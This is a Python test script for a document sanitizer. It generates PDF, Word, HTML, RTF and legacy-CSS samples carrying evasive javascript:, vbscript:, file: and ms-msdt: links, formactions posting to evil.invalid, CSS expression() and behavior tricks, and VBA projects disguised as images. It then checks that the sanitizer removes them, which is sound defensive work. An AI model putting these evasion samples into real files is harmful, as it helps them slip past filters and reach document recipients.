#!/usr/bin/env python3
"""Content that could still act after sanitizing if the rules only looked for the usual
spellings: links to scripts, files and shares in every format (PDF URI actions, OOXML
hyperlinks and HYPERLINK fields, HTML URL attributes and formaction, RTF HYPERLINK
fields), CSS that legacy browsers (Edge in IE mode) run, OOXML parts nothing refers to
or holding a VBA project under another name, and PDF named actions. Each sample is run
through bunri-sanitize like hostile.py's, and the output is read with independent
parsers (qpdf --json, Python's zipfile/minidom/html.parser, the RTF tokenizer in
hostile.py).

usage: residue.py BUNRI_SANITIZE WORKDIR"""
import json
import os
import re
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from xml.dom import minidom

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile  # noqa: E402
from hostile import CT_HEAD, RELS_HEAD, R, W, fail, page_pdf, zipbytes  # noqa: E402

KEPT = ("http", "https", "mailto")
BAD_LINKS = ["javascript:alert(1)", "JaVa\tScript:alert(2)", "data:text/html,<script>alert(3)</script>",
             "vbscript:msgbox(4)", "file:///C:/Windows/System32/calc.exe", "ms-msdt:/id PCWDiagnostic",
             "\\\\evil.invalid\\share\\x.docx", "//evil.invalid/share"]
GOOD_LINKS = ["https://www.city.example.lg.jp/kurashi/", "http://example.jp/a?b=1", "mailto:soumu@city.example.lg.jp"]


def scheme(url):
    """The scheme a browser reads (blanks skipped, tabs and newlines inside ignored);
    '' for a relative link, '//' for one starting with two slashes or backslashes."""
    u = url.lstrip("".join(chr(c) for c in range(33)))
    if u[:2].replace("\\", "/") == "//":
        return "//"
    u = re.sub(r"[\t\r\n]", "", u)
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", u)
    return m.group(1).lower() if m else ""


def link_ok(url, relative_ok):
    s = scheme(url)
    return s in KEPT or (s == "" and relative_ok)


# ---------------------------------------------------------------- PDF
def pdf_links():
    annots = [f"<< /Type /Annot /Subtype /Link /Rect [0 {i * 20} 100 {i * 20 + 10}] "
              f"/A << /S /URI /URI ({u.replace(chr(92), chr(92) * 2)}) >> >>"
              for i, u in enumerate(BAD_LINKS + GOOD_LINKS)]
    refs = " ".join(f"{6 + i} 0 R" for i in range(len(annots)))
    return page_pdf(page_extra=f"/Annots [{refs}]", extra_objs=annots)


def check_pdf_links(name, inp, out, variant):
    hostile.check_pdf(name, inp, out, "pdf")
    r = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", out], capture_output=True)
    uris = []

    def find(o):
        if isinstance(o, dict):
            for k, v in o.items():
                if k == "/URI" and isinstance(v, str):
                    uris.append(v[2:] if v.startswith("u:") else v)
                find(v)
        elif isinstance(o, list):
            for v in o:
                find(v)
    find(json.loads(r.stdout))
    for u in uris:
        if not link_ok(u, False):
            fail(name, f"URI {u!r} left")
    for u in GOOD_LINKS:
        if u not in uris:
            fail(name, f"URI {u!r} was removed")


# ---------------------------------------------------------------- OOXML
def links_docx():
    ct = (CT_HEAD + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          "</Types>")
    rels = RELS_HEAD + f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
    links = BAD_LINKS + GOOD_LINKS
    esc = [u.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
           .replace("\t", "&#9;") for u in links]
    doc_rels = (RELS_HEAD + "".join(f'<Relationship Id="rId{i}" Type="{R}/hyperlink" Target="{u}" TargetMode="External"/>'
                                    for i, u in enumerate(esc, 1)) + "</Relationships>")
    body = "".join(f'<w:p><w:hyperlink r:id="rId{i}"><w:r><w:t>link {i}</w:t></w:r></w:hyperlink></w:p>'
                   for i in range(1, len(links) + 1))
    fields = "".join('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                     f'<w:r><w:instrText xml:space="preserve"> HYPERLINK "{u}" </w:instrText></w:r>'
                     '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>f</w:t></w:r>'
                     '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                     for u in ["vbscript:msgbox(1)", "file:///C:/x.exe", "https://www.city.example.lg.jp/"])
    bm = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK \\l "mokuji" </w:instrText></w:r>'
          '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    doc = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
           f"{body}{fields}{bm}</w:body></w:document>")
    return zipbytes([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
                     ("word/_rels/document.xml.rels", doc_rels)])


def check_docx_links(name, inp, out, variant):
    z = zipfile.ZipFile(out)
    targets = [r.getAttribute("Target") for r in
               minidom.parseString(z.read("word/_rels/document.xml.rels")).getElementsByTagName("Relationship")]
    for t in targets:
        if not link_ok(t, False):
            fail(name, f"hyperlink {t!r} left")
    for u in GOOD_LINKS:
        if u not in targets:
            fail(name, f"hyperlink {u!r} was removed")
    instr = " ".join(e.firstChild.data for e in
                     minidom.parseString(z.read("word/document.xml")).getElementsByTagName("w:instrText") if e.firstChild)
    if "vbscript" in instr or "file:" in instr:
        fail(name, f"HYPERLINK field left: {instr!r}")
    if "https://www.city.example.lg.jp/" not in instr or "mokuji" not in instr:
        fail(name, "an ordinary HYPERLINK field was removed")


# ---------------------------------------------------------------- HTML
def html_links():
    a = "".join(f'<a href="{u}">l</a><img src="{u}">' for u in BAD_LINKS)
    good = "".join(f'<a href="{u}">ok</a>' for u in GOOD_LINKS) + '<a href="../kurashi/index.html">rel</a><a href="#top">top</a>'
    forms = ('<form action="/local"><button formaction="https://evil.invalid/steal">send</button>'
             '<input type="submit" formaction="//evil.invalid/steal"><input type="image" src="/i.png" '
             'formaction="javascript:alert(5)"><button formaction="/ok">ok</button></form>')
    return f"<html><body><p>リンク集</p>{a}{good}{forms}</body></html>".encode()


class Urls(HTMLParser):
    ATTRS = {"href", "src", "action", "formaction", "background", "lowsrc", "dynsrc", "data", "poster",
             "codebase", "cite", "longdesc", "usemap", "ping", "xlink:href", "folder"}

    def __init__(self):
        super().__init__()
        self.urls = []

    def handle_starttag(self, tag, attrs):
        for k, v in attrs:
            if k in self.ATTRS and v is not None:
                self.urls.append((tag, k, v))


def check_html_links(name, inp, out, variant):
    p = Urls()
    p.feed(open(out, encoding="utf-8").read())
    for tag, k, v in p.urls:
        if not link_ok(v, True):
            fail(name, f"<{tag} {k}={v!r}> left")
        if k == "formaction" and scheme(v) != "":
            fail(name, f"<{tag} formaction={v!r}> posts elsewhere")
    got = {v for _, _, v in p.urls}
    for u in GOOD_LINKS + ["../kurashi/index.html", "#top", "/ok"]:
        if u not in got:
            fail(name, f"link {u!r} was removed")


# ---------------------------------------------------------------- RTF
def rtf_links():
    def fld(u):
        return (r"{\field{\*\fldinst HYPERLINK " + u + r"}{\fldrslt link}}").encode()
    return (rb"{\rtf1\ansi " + fld('"javascript:alert(1)"') + fld('"file:///C:/x.exe"') +
            fld(r'"\\\\evil.invalid\\share"') + fld('"https://www.city.example.lg.jp/"') + fld(r'\\l "mokuji"') +
            rb"\par}")


def check_rtf_links(name, inp, out, variant):
    hostile.check_rtf(name, inp, out, variant)
    d = open(out, "rb").read()
    for k in (b"javascript", b"file:", b"evil.invalid"):
        if k in d:
            fail(name, f"{k!r} left")
    if b"https://www.city.example.lg.jp/" not in d or b"mokuji" not in d:
        fail(name, "an ordinary HYPERLINK field was removed")


# ---------------------------------------------------------------- legacy-browser HTML/CSS
SHEET = r"""<!--
@import url(http://evil.invalid/x.css);
@import "evil.css";
body { behavior: url(#default#userData); }
p { width: expression(alert(1)); color: red }
div { background: url("javascript:alert(2)") }
a { -moz-binding: url(http://evil.invalid/xbl.xml#x) }
b { -o-link: javascript:alert(3); -o-link-source: current }
i { wid<h: e8pression(alert(4)) }
u { width: expr/**/ession(alert(5)) }
s { background-image: url(vbscript:msgbox(6)); cursor: url(http://evil.invalid/a.ani) }
@media screen { p { behavior: url(x.htc); font-size: 12pt } }
@font-face { font-family: x; src: url(http://evil.invalid/f.eot) }
@page WordSection1 { size: 595.3pt 841.9pt; margin: 99.25pt 88.0pt 3.0cm 88.0pt }
h1 { font-family: "MS Gothic", serif; font-size: 14pt; color: #003366; margin: 0 0 6pt 0 }
-->"""


def legacy_html():
    return ("<html><head><style>" + SHEET + "</style></head><body>"
            '<p style="behavior:url(#default#time2)">一</p>'
            "<p style=\"color: red; background-image: url('javascript:alert(7)')\">二</p>"
            '<p style="font-size:10.5pt;mso-bidi-font-size:11pt;font-family:&quot;ＭＳ 明朝&quot;">三</p>'
            '<p style="x:expression(alert(8))">四</p>'
            '<xml id="d"><r><![CDATA[<img src=x onerror=alert(9)>]]></r></xml>'
            '<import namespace="t" implementation="#default#time2">'
            '<event-source src="http://evil.invalid/events"></event-source>'
            '<bgsound src="http://evil.invalid/a.wav">'
            '<a folder="javascript:alert(10)" href="https://www.city.example.lg.jp/">市のページ</a>'
            "</body></html>").encode()


class Styles(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.css, self.attrs, self.in_style = [], [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v) for k, v in attrs]
        self.css += [v for k, v in attrs if k == "style" and v]
        self.in_style = tag == "style"

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if self.in_style:
            self.css.append(data)


def css_plain(t):
    """CSS text as a browser reads it: comments out, escapes decoded, lower case."""
    t = re.sub(r"/\*.*?\*/", "", t, flags=re.S)
    t = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16)), t)
    t = re.sub(r"\\(.)", r"\1", t)
    return t.lower()


def check_legacy_html(name, inp, out, variant):
    p = Styles()
    p.feed(open(out, encoding="utf-8").read())
    css = css_plain(" ".join(p.css))
    for k in ("behavior", "expression", "binding", "-o-link", "javascript:", "vbscript:", "@import", "@font-face",
              "evil", "cursor", ".htc"):
        if k in css:
            fail(name, f"CSS {k!r} left: {css[:300]!r}")
    for t in ("xml", "import", "event-source", "bgsound"):
        if t in p.tags:
            fail(name, f"<{t}> left")
    for tag, k, v in p.attrs:
        if k == "folder":
            fail(name, f"<{tag} folder={v!r}> left")
    for k in ("size: 595.3pt 841.9pt", "font-size: 12pt", "ms gothic", "#003366", "color: red", "mso-bidi-font-size", "10.5pt", "ｍｓ 明朝"):
        if k not in css:
            fail(name, f"ordinary CSS {k!r} was removed: {css[:300]!r}")
    if "市のページ" not in open(out, encoding="utf-8").read():
        fail(name, "text lost")


# ---------------------------------------------------------------- OOXML parts, PDF named actions
XML_CT = ('<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>')


def vba_project():
    return hostile.cfb({"VBA": {"dir": b"\x01" * 32, "ThisDocument": b"Sub AutoOpen()"},
                        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})


def hidden_parts_docx():
    """A VBA project under media/ with no relationship to it, another behind an image
    relationship, and a picture nothing refers to."""
    ct = (CT_HEAD + XML_CT + '<Default Extension="png" ContentType="image/png"/>'
          '<Default Extension="bin" ContentType="application/octet-stream"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          "</Types>")
    rels = RELS_HEAD + f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
    doc_rels = (RELS_HEAD + f'<Relationship Id="rId1" Type="{R}/image" Target="media/image1.png"/>'
                f'<Relationship Id="rId2" Type="{R}/image" Target="media/image2.png"/></Relationships>')
    A = "http://schemas.openxmlformats.org/drawingml/2006/main"
    doc = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}"><w:body>'
           '<w:p><w:r><w:t>本文</w:t></w:r></w:p><w:p><w:r><a:blip r:embed="rId1"/></w:r></w:p>'
           '<w:p><w:r><a:blip r:embed="rId2"/></w:r></w:p></w:body></w:document>')
    return zipbytes([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
                     ("word/_rels/document.xml.rels", doc_rels), ("word/media/image1.png", hostile.png()),
                     ("word/media/image2.png", vba_project()), ("word/media/vba1.bin", vba_project()),
                     ("word/media/orphan.png", hostile.png())])


def macro_template(main_ct, folder, main, rel_type):
    ct = (CT_HEAD + XML_CT + '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          f'<Override PartName="/{folder}/{main}" ContentType="{main_ct}"/></Types>')
    rels = RELS_HEAD + f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="{folder}/{main}"/></Relationships>'
    main_rels = (RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                 'Target="vbaProject.bin"/></Relationships>')
    return zipbytes([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                     (f"{folder}/{main}", f'<?xml version="1.0" encoding="UTF-8"?><{rel_type} xmlns="x"/>'),
                     (f"{folder}/_rels/{main}.rels", main_rels), (f"{folder}/vbaProject.bin", vba_project())])


def reachable(z):
    names = set(z.namelist())
    seen, todo = {"[Content_Types].xml", "_rels/.rels"}, ["_rels/.rels"]
    while todo:
        r = todo.pop()
        base = r.replace("_rels/", "").rsplit(".rels", 1)[0]
        folder = base.rsplit("/", 1)[0] + "/" if "/" in base else ""
        for rel in minidom.parseString(z.read(r)).getElementsByTagName("Relationship"):
            if rel.getAttribute("TargetMode") == "External":
                continue
            t = rel.getAttribute("Target")
            p = t[1:] if t.startswith("/") else os.path.normpath(folder + t)
            if p in names and p not in seen:
                seen.add(p)
                d, b = (p.rsplit("/", 1) + [""])[:2] if "/" in p else ("", p)
                pr = f"{d}/_rels/{b}.rels" if "/" in p else f"_rels/{p}.rels"
                if pr in names:
                    seen.add(pr)
                    todo.append(pr)
    return seen


def check_hidden_parts(name, inp, out, variant):
    hostile.check_ooxml(name, inp, out, variant)
    z = zipfile.ZipFile(out)
    for n in z.namelist():
        if z.read(n)[:4] in (b"\xd0\xcf\x11\xe0", b"PK\3\4"):
            fail(name, f"{n} is a compound file or a zip")
    for n in set(z.namelist()) - reachable(z):
        fail(name, f"{n} is reached by no relationship")
    if "word/media/image1.png" not in z.namelist():
        fail(name, "the referenced picture was removed")


def check_macro_free(name, inp, out, variant):
    hostile.check_ooxml(name, inp, out, variant)
    ct = zipfile.ZipFile(out).read("[Content_Types].xml").decode()
    if "macroEnabled" in ct or "openxmlformats-officedocument" not in ct:
        fail(name, f"content type not macro-free: {ct}")


def named_pdf(n):
    return page_pdf(f"/OpenAction << /S /Named /N /{n} >>")


def check_named(name, inp, out, variant):
    hostile.check_pdf(name, inp, out, "pdf")
    d = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", out], capture_output=True).stdout
    if b'"/Print"' in d or b'"/SaveAs"' in d:
        fail(name, "a named action other than navigation is left")
    if name == "named_next.pdf" and b'"/NextPage"' not in d:
        fail(name, "the navigation action was removed")


def part_samples():
    yield "hidden_parts.docx", hidden_parts_docx(), "sanitized", ["ooxml.vba", "ooxml.unreferenced_part"], "hidden_parts"
    yield "template.potm", macro_template("application/vnd.ms-powerpoint.template.macroEnabled.main+xml", "ppt",
                                          "presentation.xml", "presentation"), "sanitized", \
        ["ooxml.vba", "ooxml.macro_enabled_type"], "macro_free"
    yield "addin.xlam", macro_template("application/vnd.ms-excel.addin.macroEnabled.main+xml", "xl",
                                       "workbook.xml", "workbook"), "sanitized", \
        ["ooxml.vba", "ooxml.macro_enabled_type"], "macro_free"
    yield "named_print.pdf", named_pdf("Print"), "sanitized", ["pdf.named"], "named"
    yield "named_saveas.pdf", named_pdf("SaveAs"), "sanitized", ["pdf.named"], "named"
    yield "named_next.pdf", named_pdf("NextPage"), "clean", [], "named"


def link_samples():
    yield "links.pdf", pdf_links(), "sanitized", ["pdf.uri"], "pdf_links"
    yield "links.docx", links_docx(), "sanitized", ["ooxml.hyperlink_scheme"], "docx_links"
    yield "links.html", html_links(), "sanitized", ["html.script_url", "html.url_scheme", "html.form_offsite"], \
        "html_links"
    yield "links.rtf", rtf_links(), "sanitized", ["rtf.hyperlink_scheme"], "rtf_links"


def legacy_samples():
    yield "legacy.html", legacy_html(), "sanitized", ["html.style_script", "html.element", "html.script_url"], \
        "legacy_html"


CHECKS = {"pdf_links": check_pdf_links, "docx_links": check_docx_links, "html_links": check_html_links,
          "rtf_links": check_rtf_links, "legacy_html": check_legacy_html,
          "hidden_parts": check_hidden_parts, "macro_free": check_macro_free, "named": check_named}


def main():
    binary, workdir = sys.argv[1], sys.argv[2]
    os.makedirs(workdir, exist_ok=True)
    hostile.CHECKS.update(CHECKS)
    samples = []
    for gen in (link_samples, legacy_samples, part_samples):
        samples += list(gen())
    for s in samples:
        hostile.run(binary, workdir, *s)
    print(f"{len(samples)} samples, {len(hostile.FAILS)} failures")
    return 1 if hostile.FAILS else 0


if __name__ == "__main__":
    sys.exit(main())
